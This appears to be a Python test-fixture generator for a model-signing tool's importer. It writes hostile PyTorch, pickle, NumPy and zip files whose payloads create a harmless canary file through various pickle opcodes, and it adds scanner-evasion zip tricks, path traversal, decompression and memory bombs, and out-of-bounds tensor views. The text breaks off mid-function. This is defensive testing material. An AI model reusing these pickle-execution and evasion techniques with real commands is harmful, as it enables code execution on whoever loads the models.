#!/usr/bin/env python3
"""Hostile model files for nnsign's importer tests, written byte by byte (standard library only;
the one ONNX case uses the `onnx` package when it is installed and is skipped otherwise):

    python3 scripts/make_hostile_fixtures.py            # writes tests/fixtures/hostile/
    python3 scripts/make_hostile_fixtures.py --verify   # also proves each code payload is live
    python3 scripts/make_hostile_fixtures.py --large DIR  # only: scaled-up bombs, for measuring

Writes tests/fixtures/hostile/<case files> and tests/fixtures/hostile/cases.json, which lists
every file with what it is, and the exit code and a substring of stderr that
`nnsign pack FILE -o OUT.nns` gives for it (measured; `expect_exit: null` with a `problem`
where nnsign's behaviour is judged wrong or weak).

Every payload that would run code creates the file named by CANARY (a relative path) in the
working directory of whoever loads it. A test runs nnsign in a temporary directory and checks
that the canary never appears. Cases that attack resources or parsers rather than run code
(bombs, lying lengths, views past their storage, zip tricks on benign records) have no payload;
their `what` says so.

--verify runs each code payload with Python's own `pickle` (torch stubbed out, as torch.load
would resolve its names), `copyreg` extensions registered for the EXT cases, and the Keras
Lambda's bytecode called as Keras would, each in a fresh temporary directory, and checks that
the canary appears there: the fixtures are real attacks, not inert look-alikes. It executes
the payloads (they only create the canary file in that temporary directory).

Base material: tests/fixtures/torch_real/test.pt (its records; data.pkl rebuilt),
tests/fixtures/torch_legacy/legacy.pt (its five pickles and storages; its first three open
the storages' streams of the raw pickles of state dicts) and
tests/fixtures/keras_seed_mlp/model.keras (its config; the HDF5 weights' data zeroed so that
the copy compresses to a few KB).
"""
import base64
import importlib.util
import io
import json
import marshal
import os
import pickletools
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import warnings
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..")
TORCH_SRC = os.path.join(ROOT, "tests", "fixtures", "torch_real", "test.pt")
KERAS_SRC = os.path.join(ROOT, "tests", "fixtures", "keras_seed_mlp", "model.keras")
LEGACY_SRC = os.path.join(ROOT, "tests", "fixtures", "torch_legacy", "legacy.pt")
OUT = os.path.join(ROOT, "tests", "fixtures", "hostile")

CANARY = "hostile_canary_was_created"
CMD = "touch " + CANARY  # for os.system
CODE = "open(%r, 'w').close()" % CANARY  # for eval / exec

DATE = (1980, 1, 1, 0, 0, 0)  # fixed timestamps: the script's output is reproducible


# ---------------------------------------------------------------------------------------------
# Pickle opcodes, by hand.

def proto(n):
    return b"\x80" + bytes([n])


def s(text):
    """BINUNICODE (protocol 1+)."""
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def ss(text):
    """SHORT_BINUNICODE (protocol 4)."""
    b = text.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def i(v):
    """The smallest integer opcode for v."""
    if 0 <= v < 256:
        return b"K" + bytes([v])
    if 0 <= v < 65536:
        return b"M" + struct.pack("<H", v)
    if -(2 ** 31) <= v < 2 ** 31:
        return b"J" + struct.pack("<i", v)
    n = (v.bit_length() + 8) // 8
    return b"\x8a" + bytes([n]) + v.to_bytes(n, "little", signed=True)


def g(module, name):
    """GLOBAL (protocol 0+)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


STOP = b"."


def tensor_item(name="test", storage="LongStorage", key="0", numel=8, offset=0,
                size=(2, 4), stride=(4, 1)):
    """Sets dict[name] = tensor, as torch.save writes it, on the dict at the top of the stack
    (memo 0 must be OrderedDict); the defaults are test.pt's own tensor."""
    return (s(name)
            + g("torch._utils", "_rebuild_tensor_v2")
            + b"("
            + tup(s("storage"), g("torch", storage), s(key), s("cpu"), i(numel)) + b"Q"
            + i(offset) + tup(*map(i, size)) + tup(*map(i, stride))
            + b"\x89" + b"h\x00)R"  # requires_grad False, backward hooks OrderedDict()
            + b"t" + b"R" + b"s")


def state_dict_body(**kw):
    """Pushes OrderedDict({name: tensor}) as torch.save writes it (memo 0 is OrderedDict), the
    tensor as tensor_item(**kw) makes it. No PROTO, no STOP: payloads go after it."""
    return g("collections", "OrderedDict") + b"q\x00" + b")R" + tensor_item(**kw)


def state_dict(**kw):
    return proto(2) + state_dict_body(**kw) + STOP


def with_extra(expr, protocol=2, key="extra"):
    """A valid state dict with one more entry, `key`, whose value is built by `expr`: what an
    attacker adds so that torch.load still returns the expected weights."""
    return proto(protocol) + state_dict_body() + s(key) + expr + b"s" + STOP


# Payload expressions: each leaves one object on the stack (after running the canary).
REDUCE_SYSTEM = g("posix", "system") + s(CMD) + b"\x85R"


def stack_global(fn):  # protocol 4
    return ss("builtins") + ss(fn) + b"\x93" + ss(CODE) + b"\x85R"


INST = b"(" + s(CMD) + b"iposix\nsystem\n"
OBJ = b"(" + g("posix", "system") + s(CMD) + b"o"
# tuple.__new__(tuple, map.__new__(map, exec, [CODE])): tuple's constructor drains the map,
# which calls exec. exec is fetched first (memo 100) so that it is the first global named.
_EXEC_FIRST = g("builtins", "exec") + b"qd0"
NEWOBJ = (_EXEC_FIRST + g("builtins", "tuple") + g("builtins", "map")
          + b"hd" + b"]" + s(CODE) + b"a" + b"\x86" + b"\x81" + b"\x85" + b"\x81")
NEWOBJ_EX = (_EXEC_FIRST + g("builtins", "tuple") + g("builtins", "map")
             + b"hd" + b"]" + s(CODE) + b"a" + b"\x86" + b"}" + b"\x92"
             + b"\x85" + b"}" + b"\x92")
# BUILD twice on an OrderedDict: the first state puts exec in the instance's __dict__ under
# "__setstate__", so the second BUILD calls exec(CODE).
BUILD = (g("collections", "OrderedDict") + b")R"
         + b"}" + s("__setstate__") + g("builtins", "exec") + b"s" + b"b"
         + s(CODE) + b"b")
EXT_CODES = {"ext1": 0x01, "ext2": 0x0102, "ext4": 0x010203}


def ext(kind):
    code = EXT_CODES[kind]
    opcode, fmt = {"ext1": (b"\x82", "<B"), "ext2": (b"\x83", "<H"), "ext4": (b"\x84", "<I")}[kind]
    return opcode + struct.pack(fmt, code) + s(CMD) + b"\x85R"


MALICIOUS = proto(2) + REDUCE_SYSTEM + STOP  # a whole pickle: os.system(CMD)


# ---------------------------------------------------------------------------------------------
# Zip archives.

def torch_records():
    with zipfile.ZipFile(TORCH_SRC) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


def write_zip(path, records):
    """records: (name, bytes) or (name, bytes, compress_type)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is sometimes the point
        with zipfile.ZipFile(path, "w") as z:
            for rec in records:
                name, data = rec[0], rec[1]
                ct = rec[2] if len(rec) > 2 else zipfile.ZIP_STORED
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = ct
                info.external_attr = 0o644 << 16
                z.writestr(info, data, compresslevel=9 if ct == zipfile.ZIP_DEFLATED else None)


def torch_zip(path, pkl=None, replace=None, extra=(), rename=None):
    """test.pt's records, data.pkl replaced by `pkl`, records in `replace` replaced, `extra`
    records appended, names mapped through `rename`."""
    recs = []
    for name, data in torch_records():
        if name.endswith("/data.pkl") and pkl is not None:
            data = pkl
        if replace and name in replace:
            data = replace[name]
        recs.append((rename(name) if rename else name, data))
    write_zip(path, recs + list(extra))


def zip_entries(buf):
    """(local header offset, central header offset, name) of each record of a zip in `buf`."""
    out = []
    for m in re.finditer(b"PK\x01\x02", buf):
        c = m.start()
        n, e, k = struct.unpack_from("<HHH", buf, c + 28)
        local = struct.unpack_from("<I", buf, c + 42)[0]
        out.append((local, c, buf[c + 46:c + 46 + n]))
    return out


def patch(path, fn):
    with open(path, "rb") as f:
        buf = bytearray(f.read())
    fn(buf)
    with open(path, "wb") as f:
        f.write(buf)


def entry(buf, name):
    for local, central, n in zip_entries(bytes(buf)):
        if n == name.encode():
            return local, central
    raise KeyError(name)


# ---------------------------------------------------------------------------------------------
# The cases. Each: file name, one-line description, builder (writes the file at the given path),
# and how --verify runs its payload: None (no code payload), or (mode, bytes[, arg]).

CASES = []


def case(file, what, verify=None):
    def register(build):
        CASES.append({"file": file, "what": what, "build": build, "verify": verify})
        return build
    return register


def ckpt(file, what, pkl, verify_mode="pickle", arg=None):
    """A checkpoint case: test.pt with its data.pkl replaced."""
    v = (verify_mode, pkl, arg) if verify_mode else None
    case(file, what, v)(lambda p: torch_zip(p, pkl))


# 1. Forbidden globals, reached through each opcode that can call or fetch one.
ckpt("opcode_reduce_posix_system.pt",
     "GLOBAL posix.system + REDUCE (os.system('touch ...')) as an extra entry of a valid state dict",
     with_extra(REDUCE_SYSTEM))
ckpt("opcode_stack_global_eval.pt",
     "protocol 4 STACK_GLOBAL builtins.eval + REDUCE, eval(\"open(...)\"), in a valid state dict",
     with_extra(stack_global("eval"), protocol=4))
ckpt("opcode_stack_global_exec.pt",
     "protocol 4 STACK_GLOBAL builtins.exec + REDUCE, exec(\"open(...)\"), in a valid state dict",
     with_extra(stack_global("exec"), protocol=4))
ckpt("opcode_inst.pt",
     "INST opcode ('i', protocol 0) posix.system with MARKed arguments: calls os.system",
     with_extra(INST))
ckpt("opcode_obj.pt",
     "OBJ opcode ('o', protocol 1) on GLOBAL posix.system with MARKed arguments: calls os.system",
     with_extra(OBJ))
ckpt("opcode_newobj.pt",
     "NEWOBJ (0x81): tuple.__new__(tuple, map.__new__(map, exec, [code])) drains the map, running exec",
     with_extra(NEWOBJ))
ckpt("opcode_newobj_ex.pt",
     "NEWOBJ_EX (0x92, protocol 4): the NEWOBJ chain with empty kwargs dicts",
     with_extra(NEWOBJ_EX, protocol=4))
ckpt("opcode_build_setstate.pt",
     "BUILD on an OrderedDict: state {'__setstate__': exec}, then a second BUILD calls exec(code)",
     with_extra(BUILD))
for kind in ("ext1", "ext2", "ext4"):
    ckpt("opcode_%s.pt" % kind,
         "%s (0x%02x) copyreg extension code %d + REDUCE: os.system where posix.system is "
         "registered under that code" % (kind.upper(), {"ext1": 0x82, "ext2": 0x83, "ext4": 0x84}[kind],
                                           EXT_CODES[kind]),
         with_extra(ext(kind)), "ext", EXT_CODES[kind])

# 2. A whole malicious pickle before, or after, the real one in data.pkl.
ckpt("payload_before_state_dict.pt",
     "data.pkl = a malicious pickle (os.system) with its own STOP, then test.pt's real pickle",
     MALICIOUS + state_dict())
ckpt("payload_after_state_dict.pt",
     "data.pkl = test.pt's real pickle, its STOP, then a second malicious pickle (os.system) that "
     "torch.load never reads but a loop of pickle.load calls (or the legacy format) would",
     state_dict() + MALICIOUS)

# 3. Resource bombs in the pickle machine.
MEMO_PUTS = 3000
MEMOIZES = 5000
ckpt("pickle_memo_bomb.pt",
     "%d LONG_BINPUT with distinct indices near 2^32 (CPython's unpickler grows its memo array to "
     "the index) and %d MEMOIZE, then os.system" % (MEMO_PUTS, MEMOIZES),
     proto(4) + state_dict_body() + s("extra") + b"]"
     + b"".join(b"r" + struct.pack("<I", 0xFFFFFFFF - k) for k in range(MEMO_PUTS))
     + b"\x94" * MEMOIZES + b"0" + REDUCE_SYSTEM + b"s" + STOP, "pickle", "py")
STACK_MARKS = 5000
ckpt("pickle_stack_bomb.pt",
     "%d MARK + EMPTY_LIST pairs on the stack, then os.system, then as many TUPLE to close "
     "the marks" % STACK_MARKS,
     proto(2) + state_dict_body() + s("extra") + b"(]" * STACK_MARKS + REDUCE_SYSTEM
     + b"t" * STACK_MARKS + b"s" + STOP)
NEST = 1000
ckpt("pickle_deep_nesting.pt",
     "no code: a valid state dict plus an entry of %d lists nested in each other" % NEST,
     with_extra(b"]" * NEST + b"a" * (NEST - 1)), None)
def clone_bomb(n, reps):
    """An (n+1)-item tuple (memo 200), torch.Size (memo 201), then `reps` times
    torch.Size((tuple,)) and POP, then os.system."""
    return (proto(2) + state_dict_body() + s("extra")
            + b"(" + b"K\x00" + b"2" * n + b"t" + b"q\xc8" + b"0"
            + g("torch", "Size") + b"q\xc9" + b"0"
            + b"h\xc9h\xc8\x85R0" * reps
            + REDUCE_SYSTEM + b"s" + STOP)


CLONE_N, CLONE_REPS = 15000, 2500
ckpt("pickle_clone_bomb.pt",
     "a %d-item tuple memoized, then %d calls torch.Size(that tuple) (7 bytes each), then "
     "os.system: about %d MB if each call copies the tuple"
     % (CLONE_N + 1, CLONE_REPS, (CLONE_N + 1) * 8 * CLONE_REPS // 10 ** 6),
     clone_bomb(CLONE_N, CLONE_REPS))
ckpt("pickle_binunicode8_huge.pt",
     "no code: BINUNICODE8 declaring 2^62 bytes in a 200-byte pickle",
     proto(4) + state_dict_body() + s("extra") + b"\x8d" + struct.pack("<Q", 1 << 62)
     + b"abc" + b"s" + STOP, None)
ckpt("pickle_binbytes8_huge.pt",
     "no code: BINBYTES8 declaring 2^62 bytes",
     proto(4) + state_dict_body() + s("extra") + b"\x8e" + struct.pack("<Q", 1 << 62)
     + b"abc" + b"s" + STOP, None)
ckpt("pickle_long4_huge.pt",
     "no code: LONG4 declaring a 2^31-1 byte integer",
     proto(2) + state_dict_body() + s("extra") + b"\x8b" + struct.pack("<i", 2 ** 31 - 1)
     + b"\x01\x02" + b"s" + STOP, None)
ckpt("pickle_frame_lies.pt",
     "no code: the valid state dict inside a protocol 4 FRAME that declares 2^62 bytes "
     "(Python's unpickler refuses it: the frame is not there)",
     proto(4) + b"\x95" + struct.pack("<Q", 1 << 62) + state_dict_body() + STOP, None)

# 4. Tensors that reach outside their storage (no code: memory safety).
ckpt("tensor_offset_past_storage.pt",
     "no code: the [2, 4] int64 tensor at storage offset 4 of its 8-element storage",
     state_dict(offset=4), None)
ckpt("tensor_stride_past_storage.pt",
     "no code: the [2, 4] tensor with strides (8, 1) over 8 elements",
     state_dict(stride=(8, 1)), None)
ckpt("tensor_huge_stride_overflow.pt",
     "no code: strides (2^62, 2^62) whose offsets overflow 64 bits",
     state_dict(stride=(1 << 62, 1 << 62)), None)
ckpt("tensor_negative_stride.pt",
     "no code: strides (4, -1)",
     state_dict(stride=(4, -1)), None)
ckpt("tensor_negative_offset.pt",
     "no code: storage offset -1",
     state_dict(offset=-1), None)
case("tensor_storage_record_short.pt",
     "no code: the storage claims 8 int64 elements, its data/0 record holds 32 bytes")(
    lambda p: torch_zip(p, replace={"test/data/0": bytes(range(32))}))
ckpt("tensor_numel_larger_than_record.pt",
     "no code: the storage claims 16 int64 elements (the view fits them), data/0 holds 8",
     state_dict(numel=16), None)
ckpt("tensor_zero_stride_expansion.pt",
     "no code: a view of size [2^45] with stride 0 over 1 element of an 8-element storage: "
     "a 256 TiB tensor from a 700-byte file",
     state_dict(size=(1 << 45,), stride=(0,)), None)
ckpt("tensor_storage_key_traversal.pt",
     "no code: the storage key is '../../../../etc/passwd' (data/<key> must be a record)",
     state_dict(key="../../../../etc/passwd"), None)


# Two tensors on one storage key that disagree on what the storage is. torch.load types a
# storage by the first persistent id naming its key and hands that storage to the later ones;
# torch.save refuses to write views of one storage with two dtypes.
ckpt("tensor_storage_two_dtypes.pt",
     "no code: tensor 'a' views storage '0' as FloatStorage (16 elements), tensor 'b' as "
     "DoubleStorage (8 elements): both fit data/0's 64 bytes; torch.load reads both as float32",
     proto(2) + state_dict_body(name="a", storage="FloatStorage", numel=16, size=(16,),
                                stride=(1,))
     + tensor_item(name="b", storage="DoubleStorage", numel=8, size=(8,), stride=(1,)) + STOP,
     None)
ckpt("tensor_storage_two_sizes.pt",
     "no code: test.pt's tensor on storage '0' of 8 int64, then tensor 'head' on storage '0' "
     "of 4 int64: torch.load loads the storage with the first count",
     proto(2) + state_dict_body()
     + tensor_item(name="head", numel=4, size=(4,), stride=(1,)) + STOP, None)


# 5. Zip tricks.
@case("zip_duplicate_data_pkl.pt",
      "test.pt plus a second test/data.pkl (os.system) after it: readers disagree on which copy counts",
      ("pickle", MALICIOUS))
def _(p):
    torch_zip(p, extra=[("test/data.pkl", MALICIOUS)])


@case("zip_traversal_extra_record.pt",
      "test.pt plus a record '../evil.pkl' (os.system) that an extracting tool writes outside",
      ("pickle", MALICIOUS))
def _(p):
    torch_zip(p, extra=[("../evil.pkl", MALICIOUS)])


@case("zip_traversal_folder.pt",
      "no code: test.pt with every record moved into the folder '..' ('../data.pkl', '../data/0', ...)")
def _(p):
    torch_zip(p, rename=lambda n: "../" + n.split("/", 1)[1])


@case("zip_absolute_name.pt",
      "test.pt plus a record '/abs/data.pkl' (os.system) with an absolute name",
      ("pickle", MALICIOUS))
def _(p):
    torch_zip(p, extra=[("/abs/data.pkl", MALICIOUS)])


@case("zip_local_name_differs.pt",
      "no code: test.pt with data.pkl's local header naming it 'test/data.txt' (central directory: "
      "'test/data.pkl')")
def _(p):
    torch_zip(p)
    patch(p, lambda b: _rename_local(b, "test/data.pkl", "test/data.txt"))


@case("zip_local_name_hides_pickle.pt",
      "data.pkl is os.system; its local header calls it 'test/data.txt', so a streaming scanner "
      "skips it as text while torch.load (central directory) unpickles it",
      ("pickle", with_extra(REDUCE_SYSTEM)))
def _(p):
    torch_zip(p, with_extra(REDUCE_SYSTEM))
    patch(p, lambda b: _rename_local(b, "test/data.pkl", "test/data.txt"))


def _rename_local(buf, old, new):
    assert len(old) == len(new)
    local, _ = entry(buf, old)
    assert buf[local + 30:local + 30 + len(old)] == old.encode()
    buf[local + 30:local + 30 + len(old)] = new.encode()


@case("zip_encrypted_flag.pt",
      "data.pkl (os.system, stored in the clear) with the 'encrypted' flag set in both headers: "
      "scanners skip it, a loader ignoring the flag runs it",
      ("pickle", with_extra(REDUCE_SYSTEM)))
def _(p):
    torch_zip(p, with_extra(REDUCE_SYSTEM))

    def flag(buf):
        local, central = entry(buf, "test/data.pkl")
        buf[local + 6] |= 1
        buf[central + 8] |= 1
    patch(p, flag)


@case("zip_bad_crc.pt",
      "no code: test.pt with one byte of data/0 changed after its CRC was computed")
def _(p):
    torch_zip(p)

    def flip(buf):
        local, _ = entry(buf, "test/data/0")
        n, e = struct.unpack_from("<HH", buf, local + 26)
        buf[local + 30 + n + e] ^= 0x40
    patch(p, flip)


BOMB_LEN = 101 * 10 ** 6


@case("zip_deflate_bomb.pt",
      "no code: data/0 deflated, %d MB of zeros (a ByteStorage of that many elements) from "
      "about 100 KB" % (BOMB_LEN // 10 ** 6))
def _(p):
    pkl = state_dict(storage="ByteStorage", numel=BOMB_LEN, size=(BOMB_LEN,), stride=(1,))
    recs = []
    for name, data in torch_records():
        if name == "test/data.pkl":
            data = pkl
        if name == "test/data/0":
            recs.append((name, bytes(BOMB_LEN), zipfile.ZIP_DEFLATED))
        else:
            recs.append((name, data))
    write_zip(p, recs)


def _inner_checkpoint():
    b = io.BytesIO()
    write_zip(b, [(n, with_extra(REDUCE_SYSTEM) if n.endswith("/data.pkl") else d)
                  for n, d in torch_records()])
    return b.getvalue()


@case("zip_nested_archive.pt",
      "a checkpoint whose data/0 (a ByteStorage, read as a u8 tensor) is itself a torch.save zip "
      "whose data.pkl runs os.system: bytes to nnsign, a trap for tools that open nested archives",
      ("pickle", with_extra(REDUCE_SYSTEM)))
def _(p):
    inner = _inner_checkpoint()
    pkl = state_dict(storage="ByteStorage", numel=len(inner), size=(len(inner),), stride=(1,))
    torch_zip(p, pkl, replace={"test/data/0": inner})


@case("torchscript_code.pt",
      "test.pt plus TorchScript records: code/__torch__.py (Python that creates the canary) and "
      "constants.pkl (os.system)",
      ("pickle", MALICIOUS))
def _(p):
    torch_zip(p, extra=[("test/code/__torch__.py", ("import os\nos.system(%r)\n" % CMD).encode()),
                        ("test/constants.pkl", MALICIOUS)])


# A pickle that is not in a checkpoint, under names that suggest safe formats.
@case("raw_pickle.pkl",
      "a bare pickle (as pickle.dump writes; not a legacy torch.save file), os.system",
      ("pickle", MALICIOUS))
def _(p):
    open(p, "wb").write(MALICIOUS)


@case("weights.safetensors",
      "a bare pickle (os.system) named .safetensors",
      ("pickle", MALICIOUS))
def _(p):
    open(p, "wb").write(MALICIOUS)


# Its 9th byte is '{', which is how nnsign recognises safetensors.
POLYGLOT = proto(2) + b"X\x02\x00\x00\x00a{" + b"0" + REDUCE_SYSTEM + STOP


@case("polyglot_pickle.safetensors",
      "a pickle (os.system) whose 9th byte is '{', so that it sniffs as safetensors (its "
      "first 8 bytes, read as a header length, say 0x6100000002580280)",
      ("pickle", POLYGLOT))
def _(p):
    assert POLYGLOT[8:9] == b"{"
    open(p, "wb").write(POLYGLOT)


@case("model.npy",
      "a bare pickle (os.system) named .npy: numpy.load(allow_pickle=True) unpickles a file "
      "without the NPY magic",
      ("pickle", MALICIOUS))
def _(p):
    open(p, "wb").write(MALICIOUS)


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (117 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


@case("object_array.npy",
      "a real .npy of dtype object whose data, a pickle, calls os.system "
      "(numpy.load(allow_pickle=True) unpickles it)",
      ("pickle", MALICIOUS))
def _(p):
    open(p, "wb").write(npy_object(MALICIOUS))


@case("object_array.npz",
      "an .npz with a float32 member and an object member whose pickle calls os.system",
      ("pickle", MALICIOUS))
def _(p):
    h = "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }"
    h = h + " " * (117 - len(h)) + "\n"
    ok = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode() + b"\x00\x00\x80\x3f"
    write_zip(p, [("a.npy", ok), ("b.npy", npy_object(MALICIOUS))])


# Legacy (pre-1.6, not a zip) torch.save files: five pickles, then the storages. torch.load
# unpickles all five with the same unpickler, so a payload in any of them runs.
def legacy_parts():
    """tests/fixtures/torch_legacy/legacy.pt as [magic, version, sys info, object, keys]
    pickles and the storage bytes after them."""
    data = open(LEGACY_SRC, "rb").read()
    f = io.BytesIO(data)
    parts = []
    for _ in range(5):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        parts.append(data[start:f.tell()])
    return parts, data[f.tell():]


def legacy(replace=None, tail=b""):
    parts, storages = legacy_parts()
    for k, v in (replace or {}).items():
        parts[k] = v
    return b"".join(parts) + storages + tail


def file_case(file, what, build, verify=True):
    """A case whose file is the bytes `build` returns; `verify`: Python unpickles the file."""
    case(file, what, ("pickle", None) if verify else None)(
        lambda p: open(p, "wb").write(build()))


file_case("legacy_payload_in_sys_info.pt",
            "legacy torch.save file whose third pickle (system info) also calls os.system",
            lambda: legacy({2: proto(2) + b"}(" + s("protocol_version") + i(1001)
                            + s("little_endian") + b"\x88" + s("extra") + REDUCE_SYSTEM
                            + b"u" + STOP}))
file_case("legacy_payload_in_object.pt",
            "legacy torch.save file whose object pickle (the state dict) has an extra entry "
            "calling os.system",
            lambda: legacy({3: legacy_parts()[0][3][:-1] + s("extra") + REDUCE_SYSTEM + b"s"
                            + STOP}))
file_case("legacy_payload_in_storage_keys.pt",
            "legacy torch.save file whose last pickle (the storage keys) also calls os.system",
            lambda: legacy({4: proto(2) + b"](" + s("140001") + s("140002") + REDUCE_SYSTEM
                            + b"e" + STOP}))
case("legacy_payload_after_storages.pt",
     "legacy torch.save file with a malicious pickle (os.system) after its last storage",
     ("pickle", MALICIOUS))(lambda p: open(p, "wb").write(legacy(tail=MALICIOUS)))


def _legacy_two_dtypes():
    """legacy.pt's object pickle plus tensor 'w_int', a view of w's FloatStorage '140001' as
    an IntStorage of the same 6 elements (memo 3: _rebuild_tensor_v2, 4: 'storage', 6:
    '140001', 7: 'cpu')."""
    parts, _ = legacy_parts()
    obj = parts[3]
    assert obj.endswith(b"u" + STOP)
    w_int = (s("w_int") + b"h\x03" + b"(" + b"(h\x04" + g("torch", "IntStorage") + b"h\x06h\x07"
             + i(6) + b"Nt" + b"Q" + i(0) + tup(i(6)) + tup(i(1)) + b"\x89h\x00)R" + b"t"
             + b"R")
    return legacy({3: obj[:-2] + w_int + b"u" + STOP})


file_case("legacy_storage_two_dtypes.pt",
          "no code: legacy torch.save file with a second tensor that views w's FloatStorage "
          "'140001' as an IntStorage (torch.load reads both as float32)",
          _legacy_two_dtypes, verify=False)


def _legacy_huge_count():
    parts, storages = legacy_parts()
    return b"".join(parts) + struct.pack("<q", 1 << 61) + storages[8:]


file_case("legacy_storage_count_huge.pt",
            "no code: legacy torch.save file whose first storage claims 2^61 elements",
            _legacy_huge_count, verify=False)

# Raw pickles of state dicts, as pickle.dump(model.state_dict(), f) writes them: each storage
# pickles itself as torch.storage._load_from_bytes(a legacy torch.save stream of it), which
# torch loads with torch.load(weights_only=False): a payload inside that stream runs too.
def storage_stream(numel=8, count=None, elements=None, obj=None):
    """A legacy torch.save stream of one LongStorage of `numel` elements 1, 2, ... as
    TypedStorage.__reduce__ makes it; `count` and `elements` change the element count written
    and the elements that follow it, `obj` the object pickle."""
    parts, _ = legacy_parts()
    count = numel if count is None else count
    elements = count if elements is None else elements
    if obj is None:
        obj = (proto(2) + tup(s("storage"), g("torch", "LongStorage"), s("0"), s("cpu"), i(numel),
                              b"N") + b"Q" + STOP)
    return (b"".join(parts[:3]) + obj + proto(2) + b"](" + s("0") + b"e" + STOP
            + struct.pack("<q", count) + struct.pack("<%dq" % elements, *range(1, elements + 1)))


def pbytes(b, encoding="latin1"):
    """A bytes object as pickle protocol 2 writes it: _codecs.encode(text, 'latin1')."""
    return g("_codecs", "encode") + s(b.decode("latin1")) + s(encoding) + b"\x86R"


def raw_state_dict(args=None, size=(2, 4), stride=(4, 1), extra=b"", protocol=2):
    """OrderedDict(test=tensor) as pickle.dump writes a state dict, the tensor's storage
    torch.storage._load_from_bytes(*args): by default one stream of 8 int64."""
    args = tup(pbytes(storage_stream())) if args is None else args
    return (proto(protocol) + g("collections", "OrderedDict") + b"q\x00)R" + s("test")
            + g("torch._utils", "_rebuild_tensor_v2") + b"("
            + g("torch.storage", "_load_from_bytes") + args + b"R"
            + i(0) + tup(*map(i, size)) + tup(*map(i, stride)) + b"\x89" + b"h\x00)R" + b"t"
            + b"R" + b"s" + extra + STOP)


def storage_pid(numel=8):
    return tup(s("storage"), g("torch", "LongStorage"), s("0"), s("cpu"), i(numel), b"N") + b"Q"


def nested_twice():
    """A stream whose object is a storage loaded from a second stream, which runs os.system."""
    inner = storage_stream(obj=proto(2) + REDUCE_SYSTEM + b"0" + storage_pid() + STOP)
    parts, _ = legacy_parts()
    obj = proto(2) + g("torch.storage", "_load_from_bytes") + tup(pbytes(inner)) + b"R" + STOP
    return b"".join(parts[:3]) + obj + proto(2) + b"]" + STOP


RELOADS = 100


def reloaded():
    """RELOADS tensors whose storages all load the one memoized bytes object."""
    view = i(0) + tup(i(8)) + tup(i(1)) + b"\x89h\x00)Rt" + b"R" + b"s"
    return (proto(2) + g("collections", "OrderedDict") + b"q\x00)R"
            + s("t0") + g("torch._utils", "_rebuild_tensor_v2") + b"q\x01("
            + g("torch.storage", "_load_from_bytes") + b"q\x02" + pbytes(storage_stream())
            + b"q\x03\x85R" + view
            + b"".join(s("t%d" % k) + b"h\x01(h\x02h\x03\x85R" + view for k in range(1, RELOADS))
            + STOP)


file_case("raw_state_dict_payload.pkl",
          "a raw pickle of a state dict (each storage a torch.save stream in bytes) with an "
          "extra entry calling os.system",
          lambda: raw_state_dict(extra=s("extra") + REDUCE_SYSTEM + b"s"))
file_case("raw_state_dict_payload_after.pkl",
          "a raw pickle of a state dict, then a second pickle (os.system) after its STOP",
          lambda: raw_state_dict() + MALICIOUS)
file_case("storage_stream_payload.pkl",
          "a raw pickle of a state dict whose storage's torch.save stream calls os.system in "
          "its object pickle, before the storage",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(
              obj=proto(2) + REDUCE_SYSTEM + b"0" + storage_pid() + STOP)))))
file_case("storage_stream_nested_twice.pkl",
          "a storage whose torch.save stream holds a storage loaded from a second stream, "
          "which calls os.system (torch.load recurses; a scanner reading one level misses it)",
          lambda: raw_state_dict(args=tup(pbytes(nested_twice()))))
file_case("storage_stream_two_dtypes.pkl",
          "no code: a storage whose torch.save stream names its key '0' first as a FloatStorage "
          "of 16 elements (dropped), then as the LongStorage of 8 it returns: torch.load returns "
          "the first, a FloatStorage",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(
              obj=proto(2) + tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"),
                                 i(16), b"N") + b"Q" + b"0" + storage_pid() + STOP)))),
          verify=False)
file_case("storage_stream_not_torch.pkl",
          "no code: _load_from_bytes of a plain pickle ({}), not a torch.save stream",
          lambda: raw_state_dict(args=tup(pbytes(proto(2) + b"}" + STOP))), verify=False)
file_case("storage_stream_short_view.pkl",
          "no code: a [2, 3] view with strides (4, 1) (rows 4 apart) of a storage whose stream "
          "holds 6 elements",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(numel=6))), size=(2, 3)),
          verify=False)
file_case("storage_stream_count_short.pkl",
          "no code: a stream whose storage claims 8 int64 elements and holds 4 (count 4)",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(count=4)))), verify=False)
file_case("storage_stream_count_huge.pkl",
          "no code: a stream whose storage's element count is 2^61",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(count=1 << 61, elements=8)))),
          verify=False)
file_case("storage_bytes_text.pkl",
          "no code: _load_from_bytes of a text string, not bytes",
          lambda: raw_state_dict(args=tup(s("not bytes"))), verify=False)
file_case("storage_bytes_two_args.pkl",
          "no code: _load_from_bytes of two streams",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream()), pbytes(storage_stream()))),
          verify=False)
file_case("storage_bytes_length_huge.pkl",
          "no code: _load_from_bytes of a BINBYTES8 declaring 2^62 bytes",
          lambda: raw_state_dict(args=b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc", protocol=4),
          verify=False)
file_case("storage_bytes_reloaded.pkl",
          "no code: %d tensors whose storages all load one memoized stream: each load parses "
          "it again" % RELOADS, reloaded, verify=False)
VIEWS, VIEW_LEN = 100, 8192


def many_views():
    """VIEWS tensors, each a whole view of one storage of VIEW_LEN int64, memoized."""
